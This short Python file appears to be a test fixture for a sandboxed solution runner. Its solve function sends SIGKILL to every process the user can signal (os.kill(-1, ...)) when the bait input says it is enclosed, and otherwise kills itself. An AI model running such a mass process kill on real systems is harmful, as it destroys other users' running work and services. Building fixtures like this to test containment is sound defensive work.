"""Kills every process that it may kill."""

import os
import signal


def solve(bait):
    try:
        os.kill(-1 if bait["enclosed"] else os.getpid(), signal.SIGKILL)
    except ProcessLookupError:
        pass
    os.kill(os.getpid(), signal.SIGKILL)
    return {"got": ["went on"]}
